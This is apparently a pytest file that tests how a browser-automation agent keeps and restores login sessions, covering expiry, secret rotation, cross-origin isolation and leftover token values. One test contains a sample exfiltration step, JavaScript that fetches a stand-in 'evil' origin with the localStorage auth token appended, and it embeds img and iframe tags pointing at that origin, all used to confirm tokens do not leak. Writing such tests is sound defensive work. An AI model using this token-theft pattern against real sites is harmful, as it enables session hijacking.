"""What a kept session must never do, each beside what it does where nothing is in the way."""

from __future__ import annotations

import json
import sqlite3
from typing import TYPE_CHECKING

import pytest

from agent.runs.options import RunOptions
from tests.leak.scan import find_under
from tests.standins.kept_site import STORES, kept_site

if TYPE_CHECKING:
    from collections.abc import Callable

    from tests.integration.sessions.conftest import Desk
    from tests.standins.kept_site import KeptSite

pytestmark = pytest.mark.browser

NEW = {"username": "ann", "password": "right horse"}


async def test_an_expired_session_is_replaced_by_a_sign_in_and_fresh_ignores_a_good_one(
    desk_of: Callable[[KeptSite], Desk],
) -> None:
    with kept_site(needs=("session",)) as site:
        desk = desk_of(site)
        assert await desk.ends() == "signed_in"
        site.expire()
        assert await desk.ends() == "signed_in"
        assert desk.notices[-1] == "the session kept for LOGIN does not hold any more: signing in"
        assert await desk.ends() == "session_reused"
        assert await desk.ends(options=RunOptions(pictures="off", fresh=True)) == "signed_in"
        assert site.logins == 3
        # Half a session is none: the cookie holds, the page's own token does not.
        for tokens in site.sessions.values():
            tokens["session"] = "another"
        assert await desk.ends() == "signed_in"


async def test_a_rotated_secret_and_a_session_signed_out_of_are_signed_in_anew(
    desk_of: Callable[[KeptSite], Desk],
) -> None:
    with kept_site() as site:
        desk = desk_of(site)
        assert await desk.ends() == "signed_in"
        desk.runner.rotate_secret(desk.secret, NEW)
        # Positive control: the site would have taken it.
        assert site.sessions
        assert await desk.ends({"type": "sign_out"}) == "signed_in"
        assert desk.runner.kept.lines() == []
        assert await desk.ends() == "signed_in"
        assert len(desk.runner.kept.lines()) == 1


async def test_a_secret_rotated_while_the_run_goes_on_gives_the_session_to_nobody(
    desk_of: Callable[[KeptSite], Desk],
) -> None:
    with kept_site() as site:
        desk = desk_of(site)
        assert await desk.ends() == "signed_in"
        [before] = site.sessions

        def rotate(path: str) -> None:
            if path == "/first":
                desk.runner.rotate_secret(desk.secret, NEW)

        site.on_get = rotate
        first = {"type": "goto", "url": f"{site.origin}/first"}
        report = await desk.run(first=first)
        assert report.outcome == "passed", report
        assert report.steps[1].outcome == "signed_in"
        assert not any(before in cookie for _, cookie in site.asked[-4:])
        assert desk.runner.kept.lines() == [], "a session of the old version was kept"


async def test_another_origin_gets_nothing_of_a_kept_session(
    desk_of: Callable[[KeptSite], Desk],
) -> None:
    with kept_site() as evil, kept_site(needs=("local",)) as site:
        # Cookies know no port: the browser itself would send the site's to its neighbour.
        site.more = f"<img src='{evil.origin}/pixel'><iframe src='{evil.origin}/frame'></iframe>"
        desk = desk_of(site)
        assert await desk.ends() == "signed_in"
        [sid], [tokens] = site.sessions, site.sessions.values()
        settle = {"type": "goto", "url": f"{evil.origin}/asked"}
        take = {
            "type": "evaluate",
            "expression": f"() => fetch('{evil.origin}/taken?' + localStorage.getItem('auth'))"
            ".catch(() => 0)",
        }
        evil.asked.clear()
        assert await desk.ends(take, settle) == "session_reused"
        asked = dict(evil.asked)
        assert {"/pixel", "/asked"} <= asked.keys()
        assert not any(sid in cookie for cookie in asked.values())
        assert not any(tokens["local"] in path for path in asked)
        assert any(f"{evil.origin} got nothing of the kept session" in one for one in desk.notices)
        # Positive control: a fresh sign-in's cookie goes to the neighbour, as browsers do.
        evil.asked.clear()
        fresh = RunOptions(pictures="off", fresh=True)
        assert await desk.ends(take, settle, options=fresh) == "signed_in"
        asked = dict(evil.asked)
        assert any(sid in asked["/asked"] for sid in site.sessions)
        assert any(path.startswith("/taken?") for path in asked)


async def test_a_run_with_a_restored_session_leaves_none_of_its_values(
    desk_of: Callable[[KeptSite], Desk],
) -> None:
    with kept_site(needs=STORES, rotates=True) as site:
        desk = desk_of(site)
        assert await desk.ends() == "signed_in"
        canaries = dict(site.values)
        shown = {
            "type": "evaluate",
            "expression": "() => localStorage.getItem('auth')",
            "save_as": "shown",
        }
        append = "() => document.body.append(JSON.parse(localStorage.getItem('auth')).access)"
        typed = {"type": "evaluate", "expression": append}
        every = RunOptions(extras=frozenset({"har", "html", "console", "aria"}))
        report = await desk.run(shown, typed, options=every)
        assert report.outcome == "passed", report
        assert report.steps[0].outcome == "session_reused"
        assert all(one.state == "kept" for one in report.artifacts), report.artifacts
        canaries |= {f"later {name}": value for name, value in site.values.items()}
        assert "‹LOGIN.session›" in json.dumps(report.document(), ensure_ascii=False)
        assert find_under([desk.folder / "home"], canaries) == []
        with sqlite3.connect(desk.folder / "home" / "runner.db") as database:
            database.execute("PRAGMA wal_checkpoint(TRUNCATE)")
        database.close()
        assert find_under([desk.folder / "home"], canaries) == []
        # Positive control: the scan finds one that is written down.
        (desk.folder / "home" / "left.txt").write_text(canaries["local 0"], "utf-8")
        assert find_under([desk.folder / "home"], canaries)
